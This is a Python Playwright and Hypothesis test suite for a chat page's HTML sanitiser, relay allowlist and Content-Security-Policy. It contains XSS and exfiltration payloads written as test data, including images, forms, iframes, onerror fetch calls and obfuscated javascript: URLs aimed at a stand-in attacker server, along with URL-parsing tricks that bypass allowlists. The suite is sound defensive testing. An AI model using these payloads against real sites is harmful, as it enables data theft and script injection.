"""What the chat page may send, and where (web/safety.js and the page's headers), in a real browser.

Another origin is played by a recording server on loopback that answers everything as permissively as it can (any
CORS, a tiny image), so a page that did reach it would succeed, and the test sees each request it got. Each layer
is tested on its own: the page's code in a browser that ignores Content-Security-Policy (``page_without_csp``), and
the policy with the page's code bypassed. Hostile answers come from the simulated provider's echo scenario (the
answer is the user's message), and from hypothesis, rendered by the page's own sanitiser in the page.
"""

from __future__ import annotations

import base64
import threading
import time
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any
from urllib.parse import quote, unquote, urlsplit

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from tests.conftest import deploy_page, static_server
from tests.helpers import messages_of, relay_server
from tests.test_web_page import open_chat, send, session_of, watch_until

ECHO = "sim:first_token_ms=0,tokens_per_second=0,echo=1"
# A 1×1 transparent GIF: what the recording server answers, so an image that reached it would load.
PIXEL = bytes.fromhex("47494638396101000100800000000000ffffff21f90401000000002c00000000010001000002024401003b")
DATA_IMAGE = "data:image/gif;base64," + base64.b64encode(PIXEL).decode()


class RecordingServer:
    """Stands for another origin: records every request and answers it with a pixel and CORS for anyone."""

    def __init__(self) -> None:
        self.requests: list[tuple[str, str, dict[str, str]]] = []
        recorded = self.requests

        class Handler(BaseHTTPRequestHandler):
            def answer(self) -> None:
                recorded.append((self.command, self.path, {k.lower(): v for k, v in self.headers.items()}))
                self.send_response(200)
                for name in ("Origin", "Headers", "Methods"):
                    self.send_header(f"Access-Control-Allow-{name}", "*")
                self.send_header("Content-Type", "image/gif")
                self.send_header("Content-Length", str(len(PIXEL)))
                self.end_headers()
                self.wfile.write(PIXEL)

            do_GET = do_POST = do_OPTIONS = do_HEAD = answer

            def log_message(self, *args: Any) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        threading.Thread(target=self.server.serve_forever, daemon=True).start()
        self.host = f"127.0.0.1:{self.server.server_address[1]}"
        self.origin = f"http://{self.host}"

    def paths(self) -> list[str]:
        return [path for _, path, _ in self.requests]

    def wait_for(self, path: str, timeout: float = 10.0) -> None:
        deadline = time.monotonic() + timeout
        while path not in self.paths():
            assert time.monotonic() < deadline, f"{path} never arrived; got {self.paths()}"
            time.sleep(0.02)

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture()
def evil() -> Iterator[RecordingServer]:
    server = RecordingServer()
    yield server
    server.close()


def origin_of(url: str) -> str:
    parts = urlsplit(url)
    return f"{parts.scheme}://{parts.netloc}"


def record_requests(page: Any) -> list[Any]:
    """Every request the page makes from now on (data: URLs load nothing from anywhere: left out)."""
    requests: list[Any] = []
    page.on("request", lambda request: None if request.url.startswith("data:") else requests.append(request))
    return requests


def settle(page: Any, evil: RecordingServer) -> None:
    """Waits until what the page has started so far has gone out: an image inserted after everything else (in a
    page without the policy, so it loads) arrives last at the recording server."""
    sentinel = f"/sentinel-{time.monotonic_ns()}"
    page.evaluate("(url) => { const image = new Image(); image.src = url; document.body.append(image); }",
                  evil.origin + sentinel)
    evil.wait_for(sentinel)
    evil.requests[:] = [request for request in evil.requests if request[1] != sentinel]


def enter_token(page: Any, token: str) -> None:
    page.click("#setup summary")  # the token field sits in a <details>
    page.fill("#token", token)


def open_harness(page: Any, stack: Any) -> None:
    """The page itself, settled, to import safety.js into and render with it directly. Opened in
    ``page_without_csp`` it has no policy, so whatever got through would load. (Not a page of the test's own made
    with ``page.route``: Chromium takes such a page for a public one and blocks its requests to loopback.)"""
    page.goto(f"{stack.url}/")
    page.wait_for_selector("#provider option", state="attached")


RENDER = """async ({ text, markdown, imageOrigins }) => {
    const { createSanitizer, sanitizeAnswer } = await import("/safety.js");
    const { marked } = await import("/vendor/marked.esm.js");
    const sanitize = imageOrigins ? createSanitizer({ pageOrigin: location.origin, imageOrigins }) : sanitizeAnswer;
    const holder = document.createElement("div");
    holder.append(sanitize(markdown ? marked.parse(text) : text));
    document.body.append(holder);
    return [...holder.querySelectorAll("*")].map((element) => ({
        tag: element.localName, namespace: element.namespaceURI,
        attributes: Object.fromEntries([...element.attributes].map((attribute) => [attribute.name, attribute.value])),
    }));
}"""


def render_in_page(page: Any, text: str, markdown: bool = True, image_origins: list[str] | None = None) -> Any:
    return page.evaluate(RENDER, {"text": text, "markdown": markdown, "imageOrigins": image_origins})


# ---- the relay: only the configured one, or one on the allowlist, ever gets a request -------------------------


def test_a_relay_outside_the_allowlist_gets_no_request_and_never_the_token(page_without_csp, stack, evil):
    # GIVEN the page in use with a token (typed, kept for its relay), and no policy to stop a request to elsewhere
    page = page_without_csp
    open_chat(page, stack.url, ECHO)
    enter_token(page, "token-for-the-relay")
    send(page, "hello")
    watch_until(page, lambda state: state["status"] == "complete")
    own = urlsplit(stack.url).netloc
    # WHEN links name relays that are not the page's own, however they dress it up
    for relay in [evil.origin, f"{evil.origin}/?relay={stack.url}",    # the allowed origin inside the value
                  f"http://{own}@{evil.host}/",                        # userinfo: starts with the page's origin
                  f"http://{evil.host}\\@{own}/",                      # a backslash ends the host
                  f"//{evil.host}", f"HTTP://{evil.host.upper()}", f"http://localhost:{evil.host.split(':')[1]}",
                  f" {evil.origin}#session=01HZY00000000000000000DEM0"]:
        page.goto(f"{stack.url}/?relay={quote(relay, safe='')}")
        notice = page.wait_for_selector("#notice:not([hidden])")
        settle(page, evil)
        # THEN each is refused where the user sees it, and the other origin got nothing: no token, no request
        assert "not one of them" in notice.inner_text(), relay
        assert evil.requests == [], relay
        assert page.is_disabled("#send") and page.is_disabled("#token")


def test_a_relay_on_the_allowlist_works_and_gets_no_token_typed_for_another(page, dynamodb, client, tmp_path):
    # GIVEN a page served with its own relay, whose deployer allows a second relay by link (relay-allowlist)
    deploy_page(tmp_path)
    with relay_server(dynamodb, web_directory=tmp_path) as own, \
            relay_server(dynamodb, cors_allow_origins=(own,)) as other:
        deploy_page(tmp_path, connect=(other,), relay_allowlist=f"https://relay.example, {other}")
        # ... and in use with a token for its own relay
        open_chat(page, own, ECHO)
        enter_token(page, "token-for-the-own-relay")
        send(page, "to the page's own relay")
        watch_until(page, lambda state: state["status"] == "complete")
        requests = record_requests(page)
        # WHEN a link opens it with the allowed relay
        open_chat(page, own, ECHO, f"?relay={quote(other + '/', safe='')}")
        token_shown = page.input_value("#token")
        send(page, "to the allowed relay")
        final = watch_until(page, lambda state: state["status"] == "complete")[-1]
        kept = page.evaluate("Object.keys(sessionStorage)")
    # THEN it streams through that relay, which never sees the token typed for the other
    assert words_of(final["text"]) == "to the allowed relay"
    assert messages_of(client, session_of(page))[0]["content"] == "to the allowed relay"
    to_other = [request for request in requests if origin_of(request.url) == other]
    assert to_other and all("authorization" not in request.all_headers() for request in to_other)
    assert token_shown == ""
    assert kept == [f"relay-token:{own}"]  # under its relay's origin, and nowhere in the address
    assert "token-for" not in page.url


def words_of(text: str) -> str:
    return " ".join(text.split())


# The relay's origin against every way of writing a URL: decided as the browser's URL parser reads it.
ALLOWED_RELAYS = {"https://good.example", "https://other.example:8443"}
SCHEMES = st.sampled_from(["https:", "HTTPS:", "http:", "ftp:", "javascript:", "data:", ""])
USERINFO = st.sampled_from(["", "good.example@", "user:secret@", "https://good.example@"])
HOSTS = st.sampled_from(["good.example", "GOOD.Example", "good.example.", "good%2Eexample", "evil.example",
                         "good.example.evil.example", "other.example", "evilgood.example", "127.0.0.1"])
PORTS = st.sampled_from(["", ":443", ":0443", ":8443", ":80", ":444"])
RESTS = st.sampled_from(["", "/", "/chat?x=1#y", "\\@evil.example", "?@evil.example", "#@evil.example",
                         "/@evil.example", "/https://good.example"])


@st.composite
def relay_urls(draw: st.DrawFn) -> tuple[str, str | None]:
    """A URL, and the origin it names (None: not an http(s) URL without userinfo), worked out from its parts."""
    scheme, userinfo, host, port, rest = draw(SCHEMES), draw(USERINFO), draw(HOSTS), draw(PORTS), draw(RESTS)
    url = f"{draw(st.sampled_from(['', ' ']))}{scheme}//{userinfo}{host}{port}{rest}"
    if scheme.lower() not in ("http:", "https:") or userinfo:
        return url, None
    number = int(port[1:]) if port else None
    default = 443 if scheme.lower() == "https:" else 80
    shown_port = "" if number in (None, default) else f":{number}"
    return url, f"{scheme.lower()}//{unquote(host).lower()}{shown_port}"


def test_a_requested_relay_is_accepted_exactly_when_its_origin_is_allowed(page_without_csp, stack):
    open_harness(page_without_csp, stack)

    @settings(max_examples=60, deadline=None)
    @given(cases=st.lists(relay_urls(), min_size=1, max_size=25))
    def decided_by_origin(cases: list[tuple[str, str | None]]) -> None:
        results = page_without_csp.evaluate("""async (urls) => {
            const { chooseRelay } = await import("/safety.js");
            const settings = { pageOrigin: location.origin, relayUrl: "https://good.example",
                               relayAllowlist: ["https://other.example:8443/"], imageOrigins: [] };
            return urls.map((url) => chooseRelay(url, settings));
        }""", [url for url, _ in cases])
        for (url, origin), result in zip(cases, results, strict=True):
            if origin in ALLOWED_RELAYS:
                assert "url" in result and origin_of(result["url"]) == origin, (url, result)
            else:
                assert "refused" in result, (url, origin, result)

    decided_by_origin()


# ---- answers: nothing rendered reaches another origin, submits, runs or covers the page ------------------------


def hostile_answer(evil: str) -> str:
    """Markdown and HTML that would, unsanitised, load from ``evil`` (by itself, on render), post to it, run
    script, navigate, or take the page over."""
    return "\n\n".join([
        f"![chart]({evil}/markdown-image?q=the+conversation)",
        f'<img src="{evil}/img" srcset="{evil}/srcset 2x" onerror="fetch(\'{evil}/onerror\')">',
        f'<picture><source srcset="{evil}/source"><img src="{evil}/picture"></picture>',
        f'<svg><image href="{evil}/svg-image"/><use href="{evil}/svg-use#x"/></svg>',
        f'<math><mtext><img src="{evil}/mathml"></mtext></math>',
        f'<div style="position:fixed;inset:0;z-index:9999;width:100vw;height:100vh;background:url({evil}/css)">'
        "covered</div>",
        f"<style>@import url({evil}/style-import); #composer {{ display: none }}</style>",
        f'<link rel="stylesheet" href="{evil}/link.css"><link rel="prefetch" href="{evil}/prefetch">',
        f'<form action="{evil}/form" method="post"><input name="q" value="the conversation">'
        f'<input type="image" src="{evil}/input-image"><button formaction="{evil}/formaction">Go</button></form>',
        f'<iframe src="{evil}/iframe"></iframe><iframe srcdoc="<img src={evil}/srcdoc>"></iframe>',
        f'<object data="{evil}/object"></object><embed src="{evil}/embed">',
        f'<video poster="{evil}/poster" src="{evil}/video" autoplay></video><audio src="{evil}/audio" autoplay>',
        f'<table background="{evil}/background"><tr><td>cell</td></tr></table>',
        f'<meta http-equiv="refresh" content="0;url={evil}/refresh">',
        f'<base href="{evil}/">![relative](relative.png)',
        f'[script](javascript:fetch("{evil}/javascript")) <a href="{evil}/ping-target" ping="{evil}/ping">ping</a>',
        f"[relay](/?relay={evil}) <noscript><img src={evil}/noscript></noscript>",
        '<textarea id="content">clobbers the composer</textarea><div id="send" popover>pop</div>'
        "<dialog open>a dialog</dialog>",
        f"<img src={DATA_IMAGE} width=5000 height=5000> **still markdown**",
    ])


@pytest.mark.parametrize("guard", ["page_without_csp", "page"], ids=["sanitiser-alone", "with-csp"])
def test_a_hostile_answer_reaches_no_other_origin_and_does_not_take_the_page_over(guard, stack, evil, request):
    # GIVEN the page, with its policy or without it
    page = request.getfixturevalue(guard)
    requests = record_requests(page)
    open_chat(page, stack.url, ECHO)
    # WHEN an answer (rendered as it streams, then whole) is made of everything that could leak or take over
    send(page, hostile_answer(evil.origin))
    final = watch_until(page, lambda state: state["status"] == "complete")[-1]
    shown = page.evaluate("""() => {
        const centre = (element) => {
            const box = element.getBoundingClientRect();
            return document.elementFromPoint(box.x + box.width / 2, box.y + box.height / 2);
        };
        const answer = document.querySelector(".message.ai:last-of-type .content");
        return {
            composerOnTop: centre(document.getElementById("content")) === document.getElementById("content"),
            sendOnTop: centre(document.getElementById("send")) === document.getElementById("send"),
            contentIsComposer: document.getElementById("content").closest("#composer") !== null,
            overflows: document.scrollingElement.scrollWidth > innerWidth,
            tags: [...new Set([...answer.querySelectorAll("*")].map((element) => element.localName))].sort(),
            links: [...answer.querySelectorAll("a")].map((a) => [a.getAttribute("href"), a.target, a.rel]),
            styled: answer.querySelectorAll("[style], [id], [name], [popover]").length,
            url: location.href,
        };
    }""")
    # ... and the page still works
    send(page, "still working")
    watch_until(page, lambda state: state["status"] == "complete" and "still working" in state["text"])
    if guard == "page_without_csp":
        settle(page, evil)
    # THEN nothing went to another origin, nothing can, and the page is still the page
    assert evil.requests == []
    assert {origin_of(request.url) for request in requests} <= {stack.url, evil.origin}
    assert not [request.url for request in requests if request.url.startswith(evil.origin + "/")
                and "/sentinel-" not in request.url]
    assert "still markdown" in final["text"] and "covered" in final["text"]
    assert shown["composerOnTop"] and shown["sendOnTop"] and shown["contentIsComposer"] and not shown["overflows"]
    assert set(shown["tags"]) <= {"p", "img", "strong", "table", "tbody", "tr", "td", "a"}, shown["tags"]
    assert shown["styled"] == 0 and shown["url"].startswith(stack.url + "/")
    for href, target, rel in shown["links"]:
        assert href is None or href.startswith(evil.origin + "/ping-target"), href  # only the plain http link
        assert target == "_blank" and set(rel.split()) == {"noopener", "noreferrer"}


# A grammar of what an answer could hold: tags and attributes that fetch, run, submit, frame, position or name,
# with every kind of URL, as HTML and through markdown.
def hostile_urls(evil: str, own: str) -> st.SearchStrategy[str]:
    host = evil.removeprefix("http://")
    return st.sampled_from([
        f"{evil}/a", f"{evil}/b?q=secret", f"//{host}/c", f"HTTP://{host}/d", f" {evil}/e", f"\t{evil}/f",
        f"http://{own.removeprefix('http://')}@{host}/g", f"http://{host}\\@{own.removeprefix('http://')}/h",
        f"javascript:fetch('{evil}/i')", f"jav&#x09;ascript:fetch('{evil}/j')", f"JaVaScRiPt:fetch('{evil}/k')",
        f"data:text/html,<img src={evil}/l>", f"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'>"
        f"<image href='{evil}/m'/></svg>", "vbscript:msgbox(1)", f"url({evil}/n)", f"blob:{evil}/o",
        "relative.png", "/rooted.png", "#fragment", "?relay=x", "mailto:someone@example.com",
        f"{own}/same-origin.png", DATA_IMAGE, "https://example.com/page",
    ])


TAGS = ["a", "img", "form", "input", "button", "iframe", "object", "embed", "svg", "image", "use", "math",
        "style", "link", "meta", "base", "video", "audio", "source", "picture", "table", "td", "body", "div", "p",
        "details", "marquee", "frame", "frameset", "script", "noscript", "template", "textarea", "select", "dialog",
        "area", "map", "track", "applet", "portal", "h1", "code", "pre", "span", "blockquote", "li", "ol", "x-custom"]
URL_ATTRIBUTES = ["src", "href", "srcset", "action", "formaction", "background", "poster", "ping", "data",
                  "xlink:href", "lowsrc", "dynsrc", "codebase", "cite", "longdesc", "manifest", "icon", "usemap",
                  "content", "srcdoc", "archive", "itemtype", "style"]
OTHER_ATTRIBUTES = {"style": "position:fixed;inset:0;z-index:9;background-image:url(x)", "id": "content",
                    "name": "send", "class": "message language-js", "popover": "", "open": "", "autofocus": "",
                    "onerror": "fetch('/x')", "http-equiv": "refresh", "rel": "stylesheet", "type": "image",
                    "target": "_self", "width": "9999", "height": "9999", "loading": "lazy", "is": "x-custom",
                    "data-status": "error", "tabindex": "1", "accesskey": "s", "slot": "x", "part": "x"}


def hostile_markup(evil: str, own: str) -> st.SearchStrategy[str]:
    urls = hostile_urls(evil, own)
    quoting = st.sampled_from(['"{}"', "'{}'", "{}"])
    url_attribute = st.tuples(st.sampled_from(URL_ATTRIBUTES), urls, quoting).map(
        lambda parts: f"{parts[0]}={parts[2].format(parts[1].replace(' ', '%20') if parts[2] == '{}' else parts[1])}")
    other_attribute = st.sampled_from(sorted(OTHER_ATTRIBUTES)).map(lambda name: f'{name}="{OTHER_ATTRIBUTES[name]}"')
    attributes = st.lists(url_attribute | other_attribute, max_size=4).map(" ".join)
    leaf = st.sampled_from(["text", "**bold**", "`code`", "<br>", "&lt;x&gt;", ""]) | urls.map(
        lambda url: f"![alt]({url})") | urls.map(lambda url: f"[link]({url})") | urls.map(lambda url: f"<{url}>")

    def element(children: st.SearchStrategy[str]) -> st.SearchStrategy[str]:
        return st.tuples(st.sampled_from(TAGS), attributes, st.lists(children, max_size=3)).map(
            lambda parts: f"<{parts[0]} {parts[1]}>{''.join(parts[2])}</{parts[0]}>")

    return st.recursive(leaf, element, max_leaves=8)


MARKDOWN_TAGS = {"a", "b", "blockquote", "br", "code", "del", "em", "h1", "h2", "h3", "h4", "h5", "h6", "hr", "i",
                 "img", "kbd", "li", "ol", "p", "pre", "s", "strong", "sub", "sup", "table", "tbody", "td", "tfoot",
                 "th", "thead", "tr", "ul"}
KEPT_ATTRIBUTES = {"href", "src", "alt", "title", "align", "start", "class", "target", "rel"}


def assert_harmless(elements: list[dict[str, Any]], own: str) -> None:
    """What a rendered answer may hold, whatever came in: markdown's elements; links that leave only on a click,
    in a tab that cannot reach back; images from data: or the page's own origin; no style, id or handler."""
    for element in elements:
        tag, attributes = element["tag"], element["attributes"]
        assert element["namespace"] == "http://www.w3.org/1999/xhtml" and tag in MARKDOWN_TAGS, element
        assert set(attributes) <= KEPT_ATTRIBUTES, element
        if "href" in attributes or tag == "a":
            assert tag == "a" and attributes["target"] == "_blank", element
            assert set(attributes["rel"].split()) == {"noopener", "noreferrer"}, element
            if "href" in attributes:
                link = urlsplit(attributes["href"])
                assert link.scheme in ("http", "https", "mailto") and "@" not in link.netloc, element
        if "src" in attributes:
            src = attributes["src"]
            assert tag == "img", element
            assert src == DATA_IMAGE or origin_of(src) == own, element
        if "class" in attributes:
            assert tag == "code" and all(name.startswith("language-") for name in attributes["class"].split()), element


def test_no_generated_answer_renders_anything_that_reaches_another_origin(page_without_csp, stack, evil):
    # GIVEN the page's sanitiser in a page with no policy, so whatever it let through would load
    page = page_without_csp
    open_harness(page, stack)
    requests = record_requests(page)

    @settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
    @given(text=hostile_markup(evil.origin, stack.url), markdown=st.booleans())
    def renders_harmlessly(text: str, markdown: bool) -> None:
        # WHEN it renders generated hostile markup, as raw HTML or through markdown, into the live page
        elements = render_in_page(page, text, markdown)
        # THEN the DOM holds nothing that fetches, runs or names itself, and nothing went out
        assert_harmless(elements, stack.url)
        settle(page, evil)
        assert evil.requests == []

    renders_harmlessly()
    assert {origin_of(request.url) for request in requests} <= {stack.url, evil.origin}
    assert all("/sentinel-" in request.url for request in requests if request.url.startswith(evil.origin))


def test_images_load_from_the_origins_the_deployer_allows_and_no_others(page, dynamodb, tmp_path, evil):
    # GIVEN a page whose deployer allows images from one other origin (image-origins, and img-src to match)
    allowed = RecordingServer()
    try:
        deploy_page(tmp_path, images=(allowed.origin,), image_origins=allowed.origin)
        with relay_server(dynamodb, web_directory=tmp_path) as own:
            open_chat(page, own, ECHO)
            # WHEN an answer shows an image from there, and one from elsewhere
            send(page, f"![allowed]({allowed.origin}/allowed.png) ![other]({evil.origin}/other.png)")
            final = watch_until(page, lambda state: state["status"] == "complete")[-1]
            # THEN the allowed one loads, and the other shows its description
            allowed.wait_for("/allowed.png")
    finally:
        allowed.close()
    assert evil.requests == []
    assert f'src="{allowed.origin}/allowed.png"' in final["html"] and "other" in final["text"]
    assert evil.origin not in final["html"]


def test_markdown_renders_in_full_under_the_pages_own_policy_with_nothing_blocked(page, stack):
    # GIVEN the page with its policy, and a record of every violation of it from the first script on
    page.add_init_script("""window.violations = [];
        document.addEventListener("securitypolicyviolation",
                                  (event) => violations.push(`${event.effectiveDirective} ${event.blockedURI}`));""")
    open_chat(page, stack.url, ECHO)
    # WHEN an answer uses what markdown offers
    send(page, "# Title\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n```js\nlet x = 1;\n```\n\n"
               f"> quoted *text* ~~gone~~\n\n1. [a link](https://example.com/page) ![a dot]({DATA_IMAGE})")
    final = watch_until(page, lambda state: state["status"] == "complete")[-1]
    # THEN it is all there, and the policy had nothing to block
    link = '<a href="https://example.com/page" target="_blank" rel="noopener noreferrer">'
    for kept in ("<h1>Title</h1>", "<table>", '<code class="language-js">', "<blockquote>", "<del>gone</del>", link,
                 f'src="{DATA_IMAGE}"'):
        assert kept in final["html"], kept
    assert page.evaluate("violations") == []


# ---- the policy: what gets past the page's code is still stopped -------------------------------------------------


@pytest.mark.parametrize("host", ["local run (headers)", "static host (meta only)"])
def test_the_policy_blocks_a_remote_image_that_bypassed_the_sanitiser(page, stack, evil, host, tmp_path):
    # GIVEN the page served with its headers, or by a host that sets none (the <meta> policy alone)
    with static_server(deploy_page(tmp_path)) as static:
        base = stack.url if host.startswith("local") else static
        page.goto(f"{base}/")
        # (the static host has no relay: its first request fails, and says so, before the test goes on)
        page.wait_for_selector("#provider option" if base == stack.url else "#notice:not([hidden])", state="attached")
        # WHEN markup reaches the DOM without the sanitiser (as a bug in it would let it)
        with page.expect_event("requestfailed", lambda request: request.url.endswith("/bypassed")) as failed:
            page.evaluate("(url) => document.body.insertAdjacentHTML('beforeend', `<img src='${url}'>`)",
                          f"{evil.origin}/bypassed")
        page.wait_for_function("document.getElementById('notice').textContent.includes('Content-Security-Policy')")
        # THEN the browser refuses to load it, because of the policy, and the page says why
        assert "img-src" in page.inner_text("#notice")
    assert failed.value.failure == "csp"  # Chromium's reason for a request its policy blocked
    assert evil.requests == []


@pytest.mark.parametrize(("host", "framed"), [("local run (headers)", False), ("static host (meta only)", True)])
def test_only_the_header_policy_keeps_other_sites_from_framing_the_page(page, stack, tmp_path, host, framed):
    # GIVEN a page of another origin that frames the chat page
    with static_server(deploy_page(tmp_path)) as static:
        target = f"{stack.url}/" if host.startswith("local") else f"{static}/"
        page.set_content(f'<iframe src="{target}" width="800" height="600"></iframe>')
        frame = page.wait_for_selector("iframe").content_frame()
        frame.wait_for_load_state()
        # THEN with frame-ancestors 'none' (a header: a <meta> policy cannot say it) the browser shows no page
        assert (frame.query_selector("#composer") is not None) is framed
